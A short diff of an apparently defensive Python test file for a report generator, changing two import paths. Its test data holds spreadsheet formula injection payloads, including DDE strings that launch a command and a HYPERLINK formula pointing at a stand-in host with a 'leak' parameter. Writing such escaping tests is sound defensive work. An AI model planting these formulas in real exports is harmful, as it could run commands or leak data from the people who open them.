@@ -15,8 +15,8 @@ from pathlib import Path
 
 import pytest
 
-from mrl.config import UserError
-from mrl.report import make_report
+from mrl.core.config import UserError
+from mrl.runs.report import make_report
 
 KEYS = {"=cmd|' /C calc'!A0": 1.0, '=HYPERLINK("http://x.example/?leak","click")': 2.0,
         "@SUM(1+1)*cmd|' /C calc'!A0": 3.0, "+1+cmd": 4.0, "-2+cmd": 5.0, "\tTAB": 6.0}
